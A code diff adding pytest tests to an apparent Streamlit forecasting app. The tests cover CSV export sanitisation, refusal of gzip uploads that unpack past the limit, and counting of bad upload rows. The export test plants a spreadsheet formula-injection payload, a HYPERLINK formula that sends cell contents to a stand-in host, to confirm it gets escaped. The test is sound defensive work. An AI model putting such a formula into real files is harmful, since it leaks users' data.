@@ -320,3 +320,54 @@ def test_scenario_store_transactions(tmp_path):
     assert reopened.names() == ["A", "B"]
     reopened.delete(b)
     assert ScenarioStore(tmp_path / "s.duckdb").names() == ["A"]
+
+
+def test_export_page_writes_an_event_named_like_a_formula_formula_safe(small_app_data, tmp_path, monkeypatch):
+    import shutil
+
+    data = tmp_path / "data"
+    shutil.copytree(small_app_data, data)
+    formula = '=HYPERLINK("http://x.example/?"&A1;"click")'
+    with open(data / "events.csv", "a") as fh:
+        fh.write('"' + formula.replace('"', '""') + '",flash_sale,2026-11-24T15:00:00Z,2026-11-24T20:00:00Z,all,all,1.5,0,0\n')
+    monkeypatch.setenv("SHIFTCAST_APP_DATA", str(data))
+    monkeypatch.setenv("SHIFTCAST_DATA_DIR", str(tmp_path / "store"))
+    app = AppTest.from_file(APP, default_timeout=120)
+    rerun(app)
+    forecast(app, days=7)
+    goto(app, "export")
+    assert "forecast.csv" in [d.label for d in app.get("download_button")]
+    files = app.session_state["_memo"]["export_forecast"][1]
+    import io
+
+    import pandas as pd
+
+    f = pd.read_csv(io.BytesIO(files["forecast.csv"]), keep_default_na=False, dtype=str)
+    marked = f[f["events"].str.contains("HYPERLINK", regex=False)]
+    assert len(marked) > 0 and marked["events"].str.startswith("'=HYPERLINK").all()
+
+
+def test_a_gzip_upload_that_unpacks_beyond_the_limit_is_refused(at, small_app_data, monkeypatch):
+    import gzip
+
+    from forecast.io import files
+
+    monkeypatch.setattr(files, "MAX_FILE_BYTES", 300_000)
+    assert (small_app_data / "history.csv").stat().st_size > 300_000
+    packed = gzip.compress((small_app_data / "history.csv").read_bytes())
+    at.file_uploader(key="up_history").set_value(("history.csv.gz", packed, "application/gzip"))
+    button(at, "Validate and load uploads").click()
+    rerun(at)
+    err = at.error[0].value
+    assert "history.csv.gz" in err and "unpacks to more than 0.3 MB; the limit is 0.3 MB of uncompressed data per file" in err
+    assert metric(at, "Agents").value == "24"
+
+
+def test_an_upload_with_thousands_of_bad_rows_counts_them_all_and_lists_the_first(at):
+    rows = "".join("2026-01-01T00:00:00Z,voice,UTC,lots,300\n" for _ in range(5000))
+    at.file_uploader(key="up_history").set_value(("h.csv", ("ds,channel,tz,volume,aht_s\n" + rows).encode(), "text/csv"))
+    button(at, "Validate and load uploads").click()
+    rerun(at)
+    err = at.error[0].value
+    assert "5,000 problems" in err and "... and 4,995 more (the first 20 below)" in err
+    assert metric(at, "Agents").value == "24"
